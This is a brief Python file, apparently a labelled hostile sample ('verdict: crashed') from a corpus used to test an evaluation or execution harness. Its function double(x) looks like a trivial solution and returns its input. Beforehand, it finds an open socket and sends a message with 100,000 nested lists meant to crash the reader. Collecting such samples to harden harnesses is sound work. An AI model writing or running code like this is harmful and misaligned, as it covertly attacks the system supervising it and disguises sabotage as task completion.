# verdict: crashed
# family: channel
"""Nests a hundred thousand lists in a reply."""

import os
import stat
import struct


def connection():
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
        except OSError:
            continue


def double(x):
    body = b"\x81\xa4tree" + b"\x91" * 100_000 + b"\xc0"
    os.write(connection(), struct.pack("<IQI", len(body), 0, 2) + body)
    return x
